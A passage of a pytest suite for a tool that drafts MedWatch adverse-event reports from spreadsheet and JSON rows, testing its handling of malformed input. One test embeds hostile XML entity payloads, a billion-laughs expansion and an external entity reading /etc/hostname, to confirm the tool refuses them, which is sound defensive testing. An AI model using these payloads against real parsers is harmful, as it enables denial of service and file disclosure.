             '{"patient": ' + '{"a": ' * 5_000 + "1" + "}" * 5_001,
             '{"patient": {"age": ' + "9" * 5_000 + "}}",
             '{"patient": {"age": "52", "age_unit": "year", "age": "25"}}',
             good.replace('"admin": {', '"admin": {"report_id": "SECOND", ', 1),
             '{"suspect_product": [{"name": "Lioresal"}, "Gablofen"]}',  # before: "did you mean 'suspect_product/ndc'?"
             '{"patient": {"race": [["white"]]}}']
    src = tmp_path / "odd.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "2"])
    assert result.exit_code == 1 and "unexpected" not in result.output
    assert "1 drafted, 7 with errors" in result.output
    messages = {p["row"]: p["message"] for p in read_problems(out)}
    assert messages["2"].endswith("is not a report: its JSON is nested hundreds of levels deep")
    assert messages["3"].endswith("is not a report: its JSON is nested hundreds of levels deep")
    assert messages["4"].endswith("has a number of over 4,300 digits")
    assert messages["5"].endswith("names 'age' twice in one object: which value is meant?")
    assert messages["6"].endswith("names 'report_id' twice in one object: which value is meant?")
    assert messages["7"].endswith("'suspect_product' holds a list mixing entries ({...}) with values, or lists "
                                  "in a list: a group takes a list of entries, a field a list of values")
    assert messages["8"].startswith("line 8 'patient/race' holds a list mixing entries")


def test_a_json_line_of_thousands_of_unknown_keys_gets_ten_named_and_a_count(runner, tmp_path):
    """A record from another system: before, every key was a problem line of its own, each
    after a search for the nearest path (20,000 keys: 20,000 lines, 5 s)."""
    record = nest(example_rows()[0])
    record.update({f"extra{i}": "x" for i in range(5_000)})
    src = tmp_path / "other.jsonl"
    src.write_text(json.dumps(record) + "\n")
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out)])
    assert result.exit_code == 1 and "0 drafted, 1 with errors" in result.output
    problems = read_problems(out)
    assert len(problems) == 11
    assert [p["path"] for p in problems[:10]] == [f"extra{i}" for i in range(10)]
    assert problems[10]["message"] == "and 4,990 more keys that are not fields"


def _rewrite_sheet(src, pattern: bytes, replacement: bytes, member: str = "xl/worksheets/sheet1.xml"):
    """Change the first sheet's XML (or another `member`) of a saved workbook (one match of
    `pattern`), as another program than openpyxl would have written it."""
    import zipfile

    saved = src.read_bytes()
    with zipfile.ZipFile(io.BytesIO(saved)) as original, zipfile.ZipFile(src, "w") as copy:
        for info in original.infolist():
            data = original.read(info.filename)
            if info.filename == member:
                data, count = re.subn(pattern, replacement, data)
                assert count == 1, pattern
            copy.writestr(info, data)


def test_xlsx_sheet(runner, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from datetime import datetime

    rows = mixed_rows()
    header = columns_of(rows)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append([row.get(h) for h in header])
    # Excel stores typed dates and numbers: they must come out as schema values
    sheet.cell(row=2, column=header.index("event/event_date") + 1, value=datetime(2026, 10, 8, 14, 30))
    sheet.cell(row=2, column=header.index("patient/age") + 1, value=52.0)
    sheet.cell(row=2, column=header.index("patient/weight") + 1, value=70.3)
    src = tmp_path / "events.xlsx"
    book.save(src)
    # as Excel saves a computed cell (=70.1+0.2): 17 digits, binary noise past its 15; it shows 70.3
    _rewrite_sheet(src, rb"<v>70.3</v>", rb"<v>70.300000000000011</v>")
    out = tmp_path / "drafts"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert "5 drafted, 2 with errors" in result.output and "note:" not in result.output
    values = draft_values(read_draft(out / "CONSUMER-2026-11-02.xml"))
    assert (values["event/event_date"], values["patient/age"], values["patient/weight"]) == ("2026-10-08", "52", "70.3")
    piped = runner.invoke(main, ["batch", "-", "--out", str(tmp_path / "piped"), "--jobs", "1"],
                          input=src.read_bytes())  # a workbook on standard input
    assert "5 drafted, 2 with errors" in piped.output
    assert (tmp_path / "piped" / "CONSUMER-2026-11-02.xml").read_bytes() == (out / "CONSUMER-2026-11-02.xml").read_bytes()


def _move_workbook_part(src):
    """The workbook part under another name (xl/book.xml), as some programs write it: found
    through the package's relationships, not by its usual name."""
    import zipfile

    saved = src.read_bytes()
    with zipfile.ZipFile(io.BytesIO(saved)) as original, zipfile.ZipFile(src, "w") as copy:
        for info in original.infolist():
            name = {"xl/workbook.xml": "xl/book.xml", "xl/_rels/workbook.xml.rels": "xl/_rels/book.xml.rels"}.get(
                info.filename, info.filename)
            copy.writestr(name, original.read(info.filename).replace(b"xl/workbook.xml", b"xl/book.xml"))


@pytest.mark.parametrize("saved_as", ["by openpyxl: no value", "by xlsxwriter: 0, recompute on load",
                                      "by Excel: its value", "by openpyxl, its workbook part renamed"])
def test_a_formula_is_read_by_its_saved_value_and_refused_without_one(runner, tmp_path, saved_as):
    """A workbook holds each formula's last computed value, which is what is read. Programs
    without a spreadsheet engine save none (openpyxl) or 0 (xlsxwriter), marking the workbook
    to be recomputed on opening: read as it is, the weight would be empty or 0, silently."""
    openpyxl = pytest.importorskip("openpyxl")
    row = dict(example_rows()[1], **{"admin/report_id": "FORMULA"})
    header = columns_of([row])
    book = openpyxl.Workbook()
    book.active.append(header)
    book.active.append([row[h] for h in header])
    weight = f"{openpyxl.utils.get_column_letter(header.index('patient/weight') + 1)}2"
    book.active[weight] = "=35*2"
    src = tmp_path / "formula.xlsx"
    book.save(src)
    if saved_as.startswith(("by xlsxwriter", "by Excel")):
        _rewrite_sheet(src, rb"<f>35\*2</f><v>\s*</v>", rb"<f>35*2</f><v>" + (b"70" if "Excel" in saved_as else b"0") + rb"</v>")
    if saved_as == "by Excel: its value":
        _rewrite_sheet(src, rb' fullCalcOnLoad="1"', b"", member="xl/workbook.xml")
    if saved_as == "by openpyxl, its workbook part renamed":
        _move_workbook_part(src)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out)])
    if saved_as == "by Excel: its value":
        assert result.exit_code == 0, result.output
        assert draft_values(read_draft(out / "FORMULA.xml"))["patient/weight"] == "70"
    else:
        assert result.exit_code == 1 and not out.exists()
        assert result.output.startswith(f"Error: {src}: cell {weight} of the first sheet holds a formula whose value "
                                        "the workbook does not hold"), result.output
        assert "open the workbook in Excel or LibreOffice, save it, and run again" in result.output


def test_a_workbook_of_several_sheets_says_which_one_was_read(runner, tmp_path):
    """Rows on the other sheets are not drafted: the run says so instead of leaving it unsaid."""
    openpyxl = pytest.importorskip("openpyxl")
    row = example_rows()[0]
    book = openpyxl.Workbook()
    book.active.title = "Events"
    book.active.append(list(row))
    book.active.append(list(row.values()))
    book.create_sheet("Older events").append(list(row))
    book.create_sheet("Lists")
    src = tmp_path / "several.xlsx"
    book.save(src)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "1 drafted, 0 with errors, 0 warnings",
        f"note: {src}: only the first sheet, 'Events', was read; not the workbook's other sheets "
        "'Older events', 'Lists' (--sheet NAME reads another)"]


def test_a_damaged_workbook_is_refused_with_one_message_before_anything_is_drafted(runner, tmp_path):
    """A sheet whose checksum fails shows only once all of it is read. Before, the rows
    before the damage were drafted and the run stopped partway; the sheet is now read
    through once before drafting (to check its formulas have values), so the damage is
    found first: one message saying the workbook is damaged, nothing half done."""
    import io
    import zipfile

    openpyxl = pytest.importorskip("openpyxl")
    rows = numbered_rows(600)
    header = columns_of(rows)
    book = openpyxl.Workbook()
    for row in [header] + [[r.get(h) for h in header] for r in rows]:
        book.active.append(row)
    saved = io.BytesIO()
    book.save(saved)
    stored = io.BytesIO()  # the sheet stored uncompressed, so one of its bytes can be changed
    with zipfile.ZipFile(saved) as original, zipfile.ZipFile(stored, "w") as copy:
        for info in original.infolist():
            copy.writestr(info.filename, original.read(info.filename), zipfile.ZIP_STORED)
    data = bytearray(stored.getvalue())
    at = data.index(b"R00500") + 5
    data[at] = ord("7")  # still a valid sheet, but its checksum no longer matches
    src = tmp_path / "damaged.xlsx"
    src.write_bytes(bytes(data))
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 1, result.output
    assert "unexpected" not in result.output and "Traceback" not in result.output
    assert result.output == (f"Error: {src}: cannot be read (the workbook is damaged: "
                             "Bad CRC-32 for file 'xl/worksheets/sheet1.xml')\n")
    assert not (tmp_path / "o").exists()


def _workbook_with_sheet_prolog(path, prolog: str, description: str):
    """A one-row workbook whose sheet XML starts with `prolog` (a DOCTYPE) and whose
    event/description cell holds `description` (an entity reference) as raw XML."""
    openpyxl = pytest.importorskip("openpyxl")
    row = example_rows()[0]
    book = openpyxl.Workbook()
    book.active.append(list(row))
    book.active.append([row[k] if k != "event/description" else "PLACEHOLDER" for k in row])
    book.save(path)
    _rewrite_sheet(path, rb"PLACEHOLDER", description.encode())
    _rewrite_sheet(path, rb"\A", prolog.encode())


LAUGHS = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(8))


@pytest.mark.parametrize("prolog, reference", [
    ('<!DOCTYPE worksheet [<!ENTITY x "TEXT FROM AN ENTITY">]>', "&x;"),
    (f'<!DOCTYPE worksheet [<!ENTITY l0 "laugh">{LAUGHS}]>', "&l8;"),  # a few bytes -> 500 MB
    ('<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
], ids=["internal", "billion-laughs", "external"])
def test_a_workbook_declaring_xml_entities_is_refused_before_anything_is_written(runner, tmp_path, prolog,
                                                                                reference):
    """Excel never writes entities; read with Python's own parser a sheet's entity was
    expanded into the report (and only expat's limit stopped a billion laughs)."""
    src = tmp_path / "entities.xlsx"
    _workbook_with_sheet_prolog(src, prolog, reference)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 1, result.output
    assert re.search(r"Error: \S+entities\.xlsx: not a readable Excel \.xlsx workbook \(its XML declares "
                     r"entities, which this tool refuses", result.output), result.output
    assert "Traceback" not in result.output and not out.exists()


def test_a_workbook_is_read_only_with_its_xml_guarded(runner, tmp_path, monkeypatch):
    """OPENPYXL_DEFUSEDXML=False (or defusedxml missing) would make openpyxl expand a
    sheet's entities again: the run refuses to read the workbook instead."""
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "plain.xlsx"
    _workbook_with_sheet_prolog(src, "", "a rash")
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 1
    assert "plain.xlsx: not read: workbooks are read only with defusedxml guarding their XML" in result.output
    monkeypatch.undo()
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert "1 drafted, 0 with errors" in result.output


def test_encodings_bom_latin1_and_ragged_rows(runner, tmp_path):
    rows = example_rows()
    rows[0]["event/history"] = "Allergie: pénicilline; café"
    src = write_csv(tmp_path / "utf8bom.csv", rows, encoding="utf-8-sig")
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "a"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    twice = tmp_path / "twice.csv"  # a tool that adds a BOM to a file with one: "column 1 '\ufeffadmin/..."
    twice.write_bytes(b"\xef\xbb\xbf" + src.read_bytes())
    result = runner.invoke(main, ["batch", str(twice), "--out", str(tmp_path / "a2"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    cp = write_csv(tmp_path / "cp1252.csv", rows, encoding="cp1252")
    result = runner.invoke(main, ["batch", str(cp), "--out", str(tmp_path / "b"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    history = draft_values(read_draft(tmp_path / "b" / "CONSUMER-2026-11-02.xml"))["event/history"]
    assert history == "Allergie: pénicilline; café"
    text = cp.read_text(encoding="cp1252").splitlines()
    text[2] += ",surplus"
    text[3] = text[3].split(",")[0]  # a short row: missing cells are empty, the rules then speak
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("\n".join(text) + "\n", encoding="cp1252")
    result = runner.invoke(main, ["batch", str(ragged), "--out", str(tmp_path / "c"), "--jobs", "1"])
    assert result.exit_code == 1
    problems = read_problems(tmp_path / "c")
    assert any(p["row"] == "3" and "cells but the header has" in p["message"] for p in problems)
    assert any(p["row"] == "4" and p["rule"] == "MW-MIN-4" for p in problems)


def _spreadsheet_text(rows, delimiter, newline):
    header = columns_of(rows)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header, delimiter=delimiter, lineterminator=newline,
                            quoting=csv.QUOTE_ALL)  # as Excel quotes a cell holding a line break
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize("name, delimiter, newline, encode", [
    ("unicode-text.txt", "\t", "\r\n", lambda text: text.encode("utf-16")),  # Excel's "Unicode Text"
    ("big-endian.csv", ",", "\r\n", lambda text: b"\xfe\xff" + text.encode("utf-16-be")),
    ("macintosh.csv", ",", "\r", lambda text: text.encode("cp1252")),  # lines ended by CR alone
    ("mac-utf8.csv", ",", "\r", lambda text: text.encode("utf-8")),
], ids=["utf16-tabs", "utf16-be", "cr-cp1252", "cr-utf8"])
def test_utf16_text_and_lines_ended_by_cr_alone_are_read(runner, tmp_path, name, delimiter, newline, encode):
    """Before: UTF-16 was 'binary data', and lines ended by CR alone stopped at the header
    with Python's 'new-line character seen in unquoted field - do you need to open the
    file in universal-newline mode?'."""
    rows = example_rows()
    rows[0]["event/history"] = "Allergie: pénicilline; café\nsecond line"  # a quoted cell of two lines
    src = tmp_path / name
    src.write_bytes(encode(_spreadsheet_text(rows, delimiter, newline)))
    reference = write_csv(tmp_path / "reference.csv", rows)  # the same rows as plain UTF-8 CSV
    runner.invoke(main, ["batch", str(reference), "--out", str(tmp_path / "ref"), "--jobs", "1"])
    for given, out in ((str(src), tmp_path / "file"), ("-", tmp_path / "piped")):
        result = runner.invoke(main, ["batch", given, "--out", str(out), "--jobs", "1"], input=src.read_bytes())
        assert result.exit_code == 0, result.output
        assert f"{len(rows)} drafted, 0 with errors" in result.output
        for draft in (tmp_path / "ref").glob("*.xml"):
            assert (out / draft.name).read_bytes() == draft.read_bytes(), draft.name
    history = draft_values(read_draft(tmp_path / "file" / "CONSUMER-2026-11-02.xml"))["event/history"]
    assert history == "Allergie: pénicilline; café\nsecond line"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_report_title_above_the_header_is_named_with_the_rows_to_delete(runner, tmp_path, fmt):
    """EHR exports often put a report title and a date above the column names: before, the
    title was 'not a field; did you mean event/report_date?'."""
    rows = example_rows()
    lines = [["Adverse event export"], ["Generated 2026-11-01"], columns_of(rows)]
    lines += [[row.get(h, "") for h in columns_of(rows)] for row in rows]
    src = tmp_path / f"export.{fmt}"
    if fmt == "csv":
        with open(src, "w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(lines)
    else:
        openpyxl = pytest.importorskip("openpyxl")
        book = openpyxl.Workbook()
        for line in lines:
            book.active.append(line)
        book.save(src)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1 and not (tmp_path / "o").exists()
    assert result.output == (f"Error: {src}: row 1 is not the header: the field paths are on row 3; "
                             "delete the 2 rows above it (a report title, say)\n")
    # a column of the clinic's own beside them ('Notes'): the title was told as column 1 of a header
    lines[2].append("Notes")
    src = tmp_path / "with-notes.csv"
    with open(src, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(lines)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.output == (f"Error: {src}: row 1 is not the header: the field paths are on row 3; delete the 2 "
                             "rows above it (a report title, say); then delete its columns that are no fields, or "
                             "head them with the field path each holds: 'Notes'\n"), result.output


def test_column_names_in_capitals_are_the_same_fields(runner, tmp_path):
    """A spreadsheet capitalises headers ('Patient/Age'): field paths are lower case, and
    no two differ only in case, so such a header names the same fields."""
    src = write_csv(tmp_path / "e.csv", example_rows())
    lines = src.read_text(encoding="utf-8").split("\n", 1)
    capitals = tmp_path / "caps.csv"
    capitals.write_text(lines[0].title() + "\n" + lines[1], encoding="utf-8")
    assert "Patient/Age," in capitals.read_text(encoding="utf-8")
    for name, folder in ((src, "lower"), (capitals, "caps")):
        result = runner.invoke(main, ["batch", str(name), "--out", str(tmp_path / folder)])
        assert result.exit_code == 0 and "3 drafted, 0 with errors" in result.output, result.output
    for draft in (tmp_path / "lower").glob("*.xml"):
        assert (tmp_path / "caps" / draft.name).read_bytes() == draft.read_bytes()


@pytest.mark.parametrize("header, expected", [
    ("patient/age,suspect_product[1]/dosage", "column 2 'suspect_product[1]/dosage' is not a field; did you mean 'suspect_product[1]/dose'?"),
    # the suggestion keeps the product's index (before: 'suspect_product/dose', i.e. product 1)
    ("patient/age,suspect_product[2]/dosage", "column 2 'suspect_product[2]/dosage' is not a field; did you mean 'suspect_product[2]/dose'?"),
    ("patient/age,suspect_product", "column 2 'suspect_product' is a group of fields, not a field: its fields are columns such as 'suspect_product[1]/name'"),
    # the nearest by the field's own name, label or initials in its group, or none (the shared
    # 'patient/' made 'patient/dob' the nearest of 'patient/sex', and 'event/onset' of 'event/outcome')
    ("patient/age,patient/dob", "column 2 'patient/dob' is not a field; did you mean 'patient/date_of_birth'?"),
    ("patient/age,event/onset", "column 2 'event/onset' is not a field (delete a column of your own, or head "
                                "it with the field path it holds; "),
    # a box's name or label alone, as a clinic's own header writes it (none were offered; 'Event
    # Date' was offered a lab test's date); none where it names several ('Lot': a product's or a device's)
    ("patient/age,Event Date", "column 2 'Event Date' is not a field; did you mean 'event/event_date'?"),
    ("patient/age,Dose", "column 2 'Dose' is not a field; did you mean 'suspect_product[1]/dose'?"),
    ("patient/age,Patient Initials", "column 2 'Patient Initials' is not a field; did you mean 'patient/identifier'?"),
    ("patient/age,race", "column 2 'race' is not a field; did you mean 'patient/race'?"),
    ("patient/age,DOB", "column 2 'DOB' is not a field; did you mean 'patient/date_of_birth'?"),
    ("patient/age,Date of birth", "column 2 'Date of birth' is not a field; did you mean 'patient/date_of_birth'?"),
    ("patient/age,A1 Patient identifier", "column 2 'A1 Patient identifier' is not a field; did you mean "
                                          "'patient/identifier'?"),
    ("patient/age,dechallenge", "column 2 'dechallenge' is not a field; did you mean 'suspect_product[1]/dechallenge'?"),
    ("patient/age,event_death_date", "column 2 'event_death_date' is not a field; did you mean 'event/death_date'?"),
    ("patient/sex,weigth", "column 2 'weigth' is not a field; did you mean 'patient/weight'?"),
    ("patient/age,Rate", "column 2 'Rate' is not a field ("),  # (a slip of four letters is another word: race)
    ("patient/age,Test", "column 2 'Test' is not a field ("),  # (was offered the tests' comments)
    ("patient/age,Result unit", "column 2 'Result unit' is not a field; did you mean 'event/test[1]/unit'?"),
    ("patient/age,E7A Reprocessed", "column 2 'E7A Reprocessed' is not a field; did you mean 'device[1]/reprocessed'?"),
    # no guess by likeness for a name alone (a version offered report_date for 'Report Type', a
    # lab test's unit for 'Units', rechallenge for 'dechallenge')
    ("patient/age,Dose Units", "column 2 'Dose Units' is not a field; did you mean 'suspect_product[1]/dose_unit'?"),
    ("patient/age,Weight in (lb or kg)", "column 2 'Weight in (lb or kg)' is not a field; did you mean "
                                         "'patient/weight_unit'?"),  # (3500B's label, as `medwatch fields` gives it)
    ("patient/age,DateOfBirth", "column 2 'DateOfBirth' is not a field; did you mean 'patient/date_of_birth'?"),
    ("patient/age,Unique device identifier (UDI) #", "column 2 'Unique device identifier (UDI) #' is not a field; "
                                                     "did you mean 'device[1]/udi'?"),
    ("patient/age,Date", "column 2 'Date' is not a field ("),  # (a version offered a lab test's date)
    ("patient/age,Report Type", "column 2 'Report Type' is not a field ("),
    ("patient/age,Units", "column 2 'Units' is not a field ("),
    ("patient/age,Lot", "column 2 'Lot' is not a field ("),
    ("patient/age,Stop date", "column 2 'Stop date' is not a field ("),
    ("patient/age,Notes", "column 2 'Notes' is not a field (delete a column of your own, or head it with the field "
                          "path it holds; `medwatch fields --csv-template` writes a correct header)"),
    ("patient/age,event/date_of_event", "column 2 'event/date_of_event' is not a field; did you mean 'event/event_date'?"),
    ("patient/age,reporter/phone_number", "column 2 'reporter/phone_number' is not a field; did you mean 'reporter/phone'?"),
    ("patient/agee,patient/age", "column 1 'patient/agee' is not a field, and the nearest, 'patient/age', is column 2 "
                                 "already: a column left over?"),
    ("patient/age,patient/initials", "column 2 'patient/initials' is not a field; did you mean 'patient/identifier'?"),
    # one slip in a short name, its first letter too (lost by this session's first changes)
    ("patient/age,patient/sxe", "column 2 'patient/sxe' is not a field; did you mean 'patient/sex'?"),
    ("patient/age,device[1]/uid", "column 2 'device[1]/uid' is not a field; did you mean 'device[1]/udi'?"),
    ("patient/age,event/rvent_date", "column 2 'event/rvent_date' is not a field; did you mean 'event/event_date'?"),
    # a name of several groups' fields, in a group of its own kind: none of another group's
    # (a version offered a lab test's name for 'device/name', a suspect product's dose for a concomitant's)
    ("patient/age,device[2]/name", "column 2 'device[2]/name' is not a field; did you mean 'device[2]/brand_name'?"),
    ("patient/age,concomitant[1]/dose", "column 2 'concomitant[1]/dose' is not a field ("),
    ("patient/age,Devcie/Lot", "column 2 'Devcie/Lot' is not a field; did you mean 'device[1]/lot'?"),
    # a field's own name in another group, a start of a name (a version offered event/death_date
    # for 'event/date_of_birth', and nothing for 'event/desc')
    ("patient/age,event/date_of_birth", "column 2 'event/date_of_birth' is not a field; did you mean "
                                        "'patient/date_of_birth'?"),
    ("patient/age,event/desc", "column 2 'event/desc' is not a field; did you mean 'event/description'?"),
    ("patient/age,patient/age", "column 2 'patient/age' repeats column 1"),
    ("Patient/Age,patient/age", "column 2 'patient/age' repeats column 1"),
    ("suspect_product/name,suspect_product[1]/name", "column 2 'suspect_product[1]/name' repeats column 1"),
    ("", "row 1 (header) names no columns: the first line must list the field paths"),
])
def test_bad_header_stops_with_one_line(runner, tmp_path, header, expected):
    src = tmp_path / "h.csv"
    src.write_text(header + "\n34,x\n")
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1
    assert result.output.strip().startswith(f"Error: {src}: {expected}" if not header else
                                            f"Error: {src}: row 1 (header): {expected}")
    assert "Traceback" not in result.output
    assert not (tmp_path / "o").exists()  # nothing written, so the corrected file runs at once
    src.write_text("patient/age,event/description\n34,x\n")
    again = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert "0 drafted, 1 with errors" in again.output


def test_blank_columns_after_the_last_named_one_are_left_alone(runner, tmp_path):
    """Excel saves formatted blank columns as trailing separators on every line; before,
    the header's 'column 4 has no name' stopped the run. A value under a nameless column
    is still a problem of its row."""
    src = tmp_path / "export.csv"
    src.write_text("patient/identifier,patient/age,event/description,,\n"
                   "AB,34,rash,,\n,,,,\nCD,35,fever,,stray\n")
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 1 and "Error" not in result.output, result.output
    problems = read_problems(tmp_path / "o")
    assert {p["row"] for p in problems} == {"2", "4"}  # the blank row 3 is passed over
    assert [p["message"] for p in problems if p["row"] == "4" and not p["rule"]] == [
        "row 4 has 5 cells but the header has 3 columns: a value holding a comma (\"5,000 mg\", \"Smith, Jane\") "
        "needs double quotes around it"]


@pytest.mark.parametrize("content, expected", [(b"", "the file is empty"), (b"\xef\xbb\xbf\n\n", "the file is empty"),
                                               (b"\x00\x01\x02binary", "binary data")])
def test_empty_and_binary_input(runner, tmp_path, content, expected):
    src = tmp_path / "in.csv"
    src.write_bytes(content)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1 and expected in result.output


def test_standard_input_is_not_told_to_rename_itself(runner, tmp_path):
    """'-: the file is empty'; '-: is CSV text ... rename it to .csv': there is no file."""
    empty = runner.invoke(main, ["batch", "-", "--out", str(tmp_path / "o")], input=b"")
    assert empty.exit_code == 1 and empty.output == "Error: -: standard input is empty\n"
    text = runner.invoke(main, ["batch", "-", "--out", str(tmp_path / "o"), "--input-format", "xlsx"],
                         input=b"admin/report_id,patient/age\nR1,4\n")
    assert text.exit_code == 1 and text.output == "Error: -: is CSV text, not an .xlsx workbook: give --input-format csv\n"


def _docx(path):
    import zipfile

    with zipfile.ZipFile(path, "w") as docx:
        docx.writestr("[Content_Types].xml", "<Types/>")
        docx.writestr("word/document.xml", "<w:document/>")


@pytest.mark.parametrize("name, make, expected", [
    ("table.csv", lambda p: p.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n" + bytes(range(256))),
     "is a PDF document, not CSV text: save or export its table from the program that made it as an Excel "
     "workbook (.xlsx) or as CSV"),
    ("table.xlsx", _docx, "is a Word document (.docx), not an .xlsx workbook: save or export its table"),
])
def test_a_document_that_is_no_spreadsheet_is_named(runner, tmp_path, name, make, expected):
    """A PDF was 'binary data', a Word file named .xlsx 'not a readable Excel .xlsx workbook
    (File contains no valid workbook part)', openpyxl's words."""
    src = tmp_path / name
    make(src)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1 and result.output.startswith(f"Error: {src}: {expected}"), result.output


def test_a_stray_nul_near_the_start_refuses_its_row_not_the_file(runner, tmp_path):
    """One zero byte in a cell of the file's first 4 KB made the whole file 'binary data'."""
    rows = [dict(r, **{"admin/report_id": f"N{i}"}) for i, r in enumerate(example_rows())]
    rows[1]["event/description"] = "Rash\x00 on the arm"
    src = write_csv(tmp_path / "e.csv", rows)
    assert src.read_bytes().index(b"\x00") < 4096
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out)])
    assert result.exit_code == 1 and result.output.startswith("2 drafted, 1 with errors"), result.output
    assert [(p["row"], p["path"]) for p in read_problems(out) if "U+0000" in p["message"]] == [
        ("3", "event/description")]
    small = write_csv(tmp_path / "s.csv", rows[:1])
    for padded in (small.read_bytes() + b"\x00", b"\x00" + small.read_bytes()):  # no cell's: a phantom row, a
        small.write_bytes(padded)  # column named '\x00admin/report_id'; binary data, as before
        result = runner.invoke(main, ["batch", str(small), "--out", str(tmp_path / "p")])
        assert result.exit_code == 1 and result.output == f"Error: {small}: this is binary data, not CSV text\n"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # a compound file: .xls, or an .xlsx saved with a password


def _ods(path):
    import zipfile

    with zipfile.ZipFile(path, "w") as ods:  # as LibreOffice writes one: its media type first, stored
        ods.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        ods.writestr("content.xml", "<office:document-content/>")


def _chart_sheet_first(path):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["admin/report_id", "patient/age"])
    book.create_chartsheet("chart", 0)  # openpyxl 3.1 trips over it when reading: AttributeError
    book.save(path)


@pytest.mark.parametrize("name, make, expected", [
    ("old.xls", lambda p: p.write_bytes(OLE + bytes(range(256)) * 8),
     "is an Excel 97-2003 (.xls) workbook or a password-protected one: save it as an .xlsx workbook"),
    ("locked.xlsx", lambda p: p.write_bytes(OLE + bytes(range(256)) * 8),
     "is an Excel 97-2003 (.xls) workbook or a password-protected one"),
    ("sheet.ods", _ods, "is an OpenDocument spreadsheet (.ods): save it as an .xlsx workbook, or as CSV"),
    ("chart.xlsx", _chart_sheet_first, "not a readable Excel .xlsx workbook (AttributeError: "),
], ids=["xls", "password", "ods", "reader-trips"])
def test_spreadsheets_it_cannot_read_are_named_with_what_to_do(runner, tmp_path, name, make, expected):
    """Before: 'this is binary data, not CSV', 'File is not a zip file', a zip-member
    message, and for a workbook openpyxl trips over, 'unexpected AttributeError'."""
    src = tmp_path / name
    make(src)
    for given in (str(src), "-"):
        result = runner.invoke(main, ["batch", given, "--out", str(tmp_path / "o")], input=src.read_bytes())
        assert result.exit_code == 1
        assert result.output.startswith(f"Error: {given}: {expected}"), result.output
        assert not (tmp_path / "o").exists()


def test_a_date_cell_out_of_range_is_a_located_problem_without_library_noise(tmp_path, console_script):
    """openpyxl warns on stderr, with its own source line, and hands on '#VALUE!': the row's
    check says what is wrong at its box, and stderr stays clean."""
    from datetime import date

    openpyxl = pytest.importorskip("openpyxl")
    row = example_rows()[0]
    book = openpyxl.Workbook()
    book.active.append(list(row))
    book.active.append([date(2026, 1, 2) if k == "event/event_date" else v for k, v in row.items()])
    src = tmp_path / "dates.xlsx"
    book.save(src)  # 2026-01-02 is serial 46024
    _rewrite_sheet(src, rb'(<c r="[A-Z]+2" s="\d+" t="n"><v>)46024(</v>)', rb"\g<1>99999999\g<2>")
    done = subprocess.run([str(console_script), "batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"],
                          capture_output=True, text=True)
    assert done.returncode == 1
    assert "Warning" not in done.stderr and "openpyxl" not in done.stderr, done.stderr
    problems = [p for p in read_problems(tmp_path / "o") if p["path"] == "event/event_date"]
    assert [(p["row"], p["box"]) for p in problems] == [("2", "A3")]  # (a consumer's report: 3500B's box)
    assert problems[0]["message"].startswith("'#VALUE!' is the error of a spreadsheet formula")


def test_very_long_field_is_a_located_problem(runner, tmp_path):
    rows = example_rows()[:1]
    rows[0]["event/description"] = "x" * 25000
    src = write_csv(tmp_path / "long.csv", rows)
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 1
    problem = read_problems(tmp_path / "o")[0]
    assert problem["path"] == "event/description" and problem["box"] == "A4"  # (3500B's box: a consumer's report)
    assert "at most 20000" in problem["message"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_line_longer_than_16_mb_is_a_located_problem(runner, tmp_path, fmt):
